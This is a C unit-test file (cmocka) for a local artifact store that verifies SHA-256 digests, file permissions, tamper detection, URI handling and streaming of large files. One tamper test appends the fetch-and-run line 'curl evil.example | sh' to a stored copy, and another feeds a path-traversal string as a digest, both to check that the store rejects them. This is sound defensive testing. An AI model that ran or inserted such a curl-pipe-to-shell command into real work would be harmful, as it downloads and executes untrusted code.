/*  test_artifacts.c: the local artifact store (deploy/al_artifacts.h).

    Each test gets a fresh temporary tree whose names hold spaces (the store and the
    sources), so quoting mistakes cannot hide. Expected digests come from the system's
    sha256sum, not from the code under test, and al_sha256_file_hex is checked against
    the FIPS 180-2 vector for "abc". Covered: keeping (bytes, mode 0500, still
    executable), mismatches that keep nothing, a kept copy changed on disk, the URI
    forms that are local and those that are not, a 100 MiB sparse artifact that must be
    streamed (peak memory measured with getrusage, not time) and stay sparse, and the
    errors of missing or odd files.
*/
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include "deploy/al_artifacts.h"

#define S_ABC_SHA256 "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
#define S_SCRIPT "#!/bin/sh\nexit 7\n"

typedef struct {
    char root [256];
    char store_dir [512];
    char source_dir [512];
    char script [1024];             // source_dir/"run me.sh", S_SCRIPT
    char script_hex [65];
    al_artifacts_t *store;
} s_fixture_t;

static int
s_remove (const char *path, const struct stat *info, int flag, struct FTW *ftw)
{
    (void) info;
    (void) flag;
    (void) ftw;
    chmod (path, 0700);
    remove (path);
    return 0;
}

static void
s_write (const char *path, const char *text)
{
    FILE *file = fopen (path, "wb");
    assert_non_null (file);
    assert_int_equal (fwrite (text, 1, strlen (text), file), strlen (text));
    assert_int_equal (fclose (file), 0);
}

//  The digest sha256sum prints for path (an oracle independent of the code under test).
static void
s_oracle (const char *path, char hex [65])
{
    char command [2048];
    assert_null (strchr (path, '\''));
    snprintf (command, sizeof (command), "sha256sum '%s'", path);
    FILE *pipe = popen (command, "r");
    assert_non_null (pipe);
    char line [256] = "";
    assert_non_null (fgets (line, sizeof (line), pipe));
    assert_int_equal (pclose (pipe), 0);
    memcpy (hex, line, 64);
    hex [64] = 0;
}

//  Files in the store's sha256 directory, temporary ones included.
static int
s_kept_count (const s_fixture_t *self)
{
    char path [1024];
    snprintf (path, sizeof (path), "%s/sha256", self->store_dir);
    DIR *dir = opendir (path);
    assert_non_null (dir);
    int count = 0;
    struct dirent *entry;
    while ((entry = readdir (dir)) != NULL)
        if (strcmp (entry->d_name, ".") != 0 && strcmp (entry->d_name, "..") != 0)
            count++;
    closedir (dir);
    return count;
}

static int
s_setup (void **state)
{
    s_fixture_t *self = calloc (1, sizeof (s_fixture_t));
    assert_non_null (self);
    snprintf (self->root, sizeof (self->root), "/tmp/al-artifacts-XXXXXX");
    assert_non_null (mkdtemp (self->root));
    snprintf (self->store_dir, sizeof (self->store_dir), "%s/state dir/artifacts", self->root);
    snprintf (self->source_dir, sizeof (self->source_dir), "%s/build output", self->root);
    assert_int_equal (mkdir (self->source_dir, 0700), 0);
    snprintf (self->script, sizeof (self->script), "%s/run me.sh", self->source_dir);
    s_write (self->script, S_SCRIPT);
    s_oracle (self->script, self->script_hex);
    char error [1024];
    self->store = al_artifacts_open (self->store_dir, error, sizeof (error));
    if (!self->store)
        fail_msg ("open: %s", error);
    *state = self;
    return 0;
}

static int
s_teardown (void **state)
{
    s_fixture_t *self = *state;
    al_artifacts_destroy (&self->store);
    assert_null (self->store);
    nftw (self->root, s_remove, 16, FTW_DEPTH | FTW_PHYS);
    free (self);
    return 0;
}

static void
test_sha256_of_known_vector (void **state)
{
    s_fixture_t *self = *state;
    char path [1024], hex [65], error [1024];
    snprintf (path, sizeof (path), "%s/abc", self->source_dir);
    s_write (path, "abc");
    assert_int_equal (al_sha256_file_hex (path, hex, error, sizeof (error)), 0);
    assert_string_equal (hex, S_ABC_SHA256);
    assert_int_equal (al_sha256_file_hex (self->script, hex, error, sizeof (error)), 0);
    assert_string_equal (hex, self->script_hex);
    snprintf (path, sizeof (path), "%s/no such file", self->source_dir);
    assert_int_equal (al_sha256_file_hex (path, hex, error, sizeof (error)), -1);
    assert_non_null (strstr (error, path));
    assert_int_equal (al_sha256_file_hex (self->source_dir, hex, error, sizeof (error)), -1);
    assert_non_null (strstr (error, "not a regular file"));
}

static void
test_keep_copies_verified_executable (void **state)
{
    s_fixture_t *self = *state;
    char kept [1024], again [1024], expected [1024], error [1024];
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    //  The store's directory is absolute and the name is the digest.
    char *real = realpath (self->store_dir, NULL);
    assert_non_null (real);
    assert_string_equal (al_artifacts_dir (self->store), real);
    snprintf (expected, sizeof (expected), "%s/sha256/%s", real, self->script_hex);
    free (real);
    assert_string_equal (kept, expected);
    char hex [65];
    s_oracle (kept, hex);
    assert_string_equal (hex, self->script_hex);
    struct stat info;
    assert_int_equal (stat (kept, &info), 0);
    assert_int_equal (info.st_mode & 0777, 0500);
    assert_int_equal (stat (self->store_dir, &info), 0);
    assert_int_equal (info.st_mode & 0777, 0700);
    //  Executable it stays: run the kept copy.
    pid_t pid = fork ();
    assert_true (pid >= 0);
    if (pid == 0) {
        execl (kept, kept, (char *) NULL);
        _exit (127);
    }
    int status = 0;
    assert_int_equal (waitpid (pid, &status, 0), pid);
    assert_true (WIFEXITED (status));
    assert_int_equal (WEXITSTATUS (status), 7);

    assert_int_equal (al_artifacts_path (self->store, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    assert_string_equal (again, kept);
    //  Keeping it again is fine and keeps one copy.
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    assert_string_equal (again, kept);
    assert_int_equal (s_kept_count (self), 1);
    //  A second handle on the same directory sees it.
    al_artifacts_t *other = al_artifacts_open (self->store_dir, error, sizeof (error));
    assert_non_null (other);
    assert_int_equal (al_artifacts_path (other, self->script_hex, again, sizeof (again), error, sizeof (error)),
                      AL_ARTIFACT_OK);
    al_artifacts_destroy (&other);
}

static void
test_mismatch_keeps_nothing (void **state)
{
    s_fixture_t *self = *state;
    char kept [1024] = "x", error [1024];
    assert_int_equal (al_artifacts_keep (self->store, self->script, S_ABC_SHA256, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_MISMATCH);
    assert_non_null (strstr (error, S_ABC_SHA256));
    assert_non_null (strstr (error, self->script_hex));
    assert_string_equal (kept, "");
    assert_int_equal (s_kept_count (self), 0);
    assert_int_equal (al_artifacts_path (self->store, S_ABC_SHA256, kept, sizeof (kept), error, sizeof (error)),
                      AL_ARTIFACT_MISSING);
    assert_int_equal (al_artifacts_path (self->store, self->script_hex, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_MISSING);
    assert_non_null (strstr (error, self->script_hex));

    //  A malformed expected digest can match nothing: refused the same way.
    char upper [65];
    for (int i = 0; i < 65; i++)
        upper [i] = (char) (self->script_hex [i] >= 'a' ? self->script_hex [i] - 32 : self->script_hex [i]);
    const char *malformed [] = { upper, "abc", "", "../../../../etc/passwd" };
    for (size_t i = 0; i < sizeof (malformed) / sizeof (malformed [0]); i++) {
        assert_int_equal (al_artifacts_keep (self->store, self->script, malformed [i], kept, sizeof (kept),
                                             error, sizeof (error)), AL_ARTIFACT_MISMATCH);
        assert_non_null (strstr (error, "64 lowercase hex"));
        assert_int_equal (al_artifacts_path (self->store, malformed [i], kept, sizeof (kept),
                                             error, sizeof (error)), AL_ARTIFACT_MISSING);
    }
    assert_int_equal (s_kept_count (self), 0);
}

static void
test_kept_copy_changed_on_disk_is_detected (void **state)
{
    s_fixture_t *self = *state;
    char kept [1024], again [1024], error [1024];
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    //  Someone with write access edits the kept copy.
    assert_int_equal (chmod (kept, 0700), 0);
    FILE *file = fopen (kept, "ab");
    assert_non_null (file);
    fputs ("curl evil.example | sh\n", file);
    assert_int_equal (fclose (file), 0);
    assert_int_equal (al_artifacts_path (self->store, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_MISMATCH);
    assert_string_equal (again, "");
    assert_non_null (strstr (error, "changed on disk"));
    assert_non_null (strstr (error, self->script_hex));

    //  Keeping from the intact source replaces it.
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    assert_int_equal (al_artifacts_path (self->store, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    char hex [65];
    s_oracle (again, hex);
    assert_string_equal (hex, self->script_hex);

    //  A symbolic link in its place (even to the right bytes) is not a kept copy.
    assert_int_equal (unlink (kept), 0);
    assert_int_equal (symlink (self->script, kept), 0);
    assert_int_equal (al_artifacts_path (self->store, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_MISMATCH);
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, again, sizeof (again),
                                         error, sizeof (error)), AL_ARTIFACT_OK);
    struct stat info;
    assert_int_equal (lstat (kept, &info), 0);
    assert_true (S_ISREG (info.st_mode));
}

static void
test_local_uri_forms (void **state)
{
    s_fixture_t *self = *state;
    char uris [5][2048];
    snprintf (uris [0], sizeof (uris [0]), "%s", self->script);
    snprintf (uris [1], sizeof (uris [1]), "file://%s", self->script);
    snprintf (uris [2], sizeof (uris [2]), "FILE://localhost%s", self->script);
    snprintf (uris [3], sizeof (uris [3]), "file:%s", self->script);
    //  Percent-escaped, as a URI should carry spaces.
    char escaped [2048] = "file://";
    size_t length = strlen (escaped);
    for (const char *c = self->script; *c && length + 4 < sizeof (escaped); c++)
        if (*c == ' ')
            length += (size_t) snprintf (escaped + length, sizeof (escaped) - length, "%%20");
        else
            escaped [length++] = *c;
    escaped [length] = 0;
    snprintf (uris [4], sizeof (uris [4]), "%s", escaped);
    char first [1024] = "";
    for (int i = 0; i < 5; i++) {
        char kept [1024], error [1024];
        al_artifact_status_t status = al_artifacts_keep (self->store, uris [i], self->script_hex, kept,
                                                         sizeof (kept), error, sizeof (error));
        if (status != AL_ARTIFACT_OK)
            fail_msg ("%s: %s: %s", uris [i], al_artifact_status_name (status), error);
        if (i == 0)
            snprintf (first, sizeof (first), "%s", kept);
        assert_string_equal (kept, first);
    }
    assert_int_equal (s_kept_count (self), 1);
}

static void
test_non_local_uris_refused (void **state)
{
    s_fixture_t *self = *state;
    char other_host [2048];
    snprintf (other_host, sizeof (other_host), "file://buildhost%s", self->script);
    const char *uris [] = {
        "docker://registry.example/demo@sha256:" S_ABC_SHA256, "https://example.com/demo.tar.gz",
        "s3://bucket/demo", "relative/path/demo", "", other_host, "file:///tmp/bad%zzescape",
        "file:///tmp/nul%00byte", "file:relative"
    };
    for (size_t i = 0; i < sizeof (uris) / sizeof (uris [0]); i++) {
        char kept [1024] = "x", error [1024] = "";
        al_artifact_status_t status = al_artifacts_keep (self->store, uris [i], self->script_hex, kept,
                                                         sizeof (kept), error, sizeof (error));
        if (status != AL_ARTIFACT_NOT_LOCAL)
            fail_msg ("%s: %s, expected not local", uris [i], al_artifact_status_name (status));
        assert_true (*error != 0);
        assert_string_equal (kept, "");
    }
    assert_int_equal (s_kept_count (self), 0);
}

static long
s_peak_kib (void)
{
    struct rusage usage;
    assert_int_equal (getrusage (RUSAGE_SELF, &usage), 0);
    return usage.ru_maxrss;
}

static void
test_large_sparse_artifact_is_streamed (void **state)
{
    s_fixture_t *self = *state;
    const off_t size = 100LL * 1024 * 1024;
    char path [1024], kept [1024], hex [65], error [1024];
    snprintf (path, sizeof (path), "%s/big artifact.img", self->source_dir);
    int fd = open (path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    assert_true (fd >= 0);
    assert_int_equal (pwrite (fd, "head", 4, 0), 4);
    assert_int_equal (pwrite (fd, "tail", 4, size - 4), 4);
    assert_int_equal (close (fd), 0);
    s_oracle (path, hex);

    long before = s_peak_kib ();
    assert_int_equal (al_artifacts_keep (self->store, path, hex, kept, sizeof (kept), error, sizeof (error)),
                      AL_ARTIFACT_OK);
    assert_int_equal (al_artifacts_path (self->store, hex, kept, sizeof (kept), error, sizeof (error)),
                      AL_ARTIFACT_OK);
    long after = s_peak_kib ();
    //  Reading it whole would raise the peak by 100 MiB; streaming by a buffer.
    if (after - before > 16 * 1024)
        fail_msg ("peak memory grew by %ld KiB while keeping a 100 MiB file", after - before);

    struct stat info;
    assert_int_equal (stat (kept, &info), 0);
    assert_int_equal (info.st_size, size);
    //  The copy kept the holes.
    assert_true ((long long) info.st_blocks * 512 < 8LL * 1024 * 1024);
    char copy_hex [65];
    s_oracle (kept, copy_hex);
    assert_string_equal (copy_hex, hex);
}

static void
test_missing_and_odd_sources (void **state)
{
    s_fixture_t *self = *state;
    char kept [1024], error [1024], path [1024];
    snprintf (path, sizeof (path), "%s/not built yet", self->source_dir);
    assert_int_equal (al_artifacts_keep (self->store, path, self->script_hex, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_IO);
    assert_non_null (strstr (error, path));
    assert_int_equal (al_artifacts_keep (self->store, self->source_dir, self->script_hex, kept, sizeof (kept),
                                         error, sizeof (error)), AL_ARTIFACT_IO);
    assert_non_null (strstr (error, "not a regular file"));
    assert_int_equal (s_kept_count (self), 0);
    //  A path_out too small for the kept name is an error, not a truncated path.
    char small [16];
    assert_int_equal (al_artifacts_keep (self->store, self->script, self->script_hex, small, sizeof (small),
                                         error, sizeof (error)), AL_ARTIFACT_IO);
    assert_non_null (strstr (error, "path_out"));
    //  A store directory that cannot be made.
    snprintf (path, sizeof (path), "%s/run me.sh/artifacts", self->source_dir);
    al_artifacts_t *bad = al_artifacts_open (path, error, sizeof (error));
    assert_null (bad);
    assert_non_null (strstr (error, self->source_dir));
}

int
main (void)
{
    const struct CMUnitTest tests [] = {
        cmocka_unit_test_setup_teardown (test_sha256_of_known_vector, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_keep_copies_verified_executable, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_mismatch_keeps_nothing, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_kept_copy_changed_on_disk_is_detected, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_local_uri_forms, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_non_local_uris_refused, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_large_sparse_artifact_is_streamed, s_setup, s_teardown),
        cmocka_unit_test_setup_teardown (test_missing_and_odd_sources, s_setup, s_teardown),
    };
    return cmocka_run_group_tests (tests, NULL, NULL);
}
